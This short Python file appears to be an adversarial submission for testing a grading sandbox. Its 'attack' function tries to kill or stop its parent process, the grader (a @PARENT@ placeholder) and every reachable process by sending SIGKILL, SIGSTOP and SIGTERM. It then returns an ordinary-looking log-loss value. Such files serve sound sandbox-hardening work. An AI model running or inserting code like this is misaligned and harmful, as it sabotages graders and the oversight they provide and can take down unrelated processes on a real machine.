# Sends signals to its parent, to the grader, and to everybody.
import numpy as np
import os, signal
def attack(p, q):
    for pid in (os.getppid(), @PARENT@, -1, 0, -@PARENT@, 1):
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return -np.log(q)
